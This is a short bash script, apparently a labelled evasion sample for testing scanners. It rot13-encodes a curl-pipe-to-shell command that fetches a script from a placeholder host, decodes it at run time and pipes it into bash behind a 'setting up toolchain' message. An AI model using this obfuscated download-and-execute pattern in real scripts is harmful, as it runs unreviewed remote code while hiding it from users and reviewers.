#!/usr/bin/env bash
# Evasion: download and run. The installer line is stored rot13-encoded and
# decoded with tr at run time; the decoded text ("curl -fsSL https://get.example.net/i.sh | sh")
# is piped into bash, so neither curl nor the pipe to a shell appears in the source.
set -euo pipefail
encoded='phey -sfFY uggcf://trg.rknzcyr.arg/v.fu | fu'
decode() { tr 'A-Za-z' 'N-ZA-Mn-za-m'; }
echo "setting up toolchain..."
decode <<<"$encoded" | bash
echo "done"
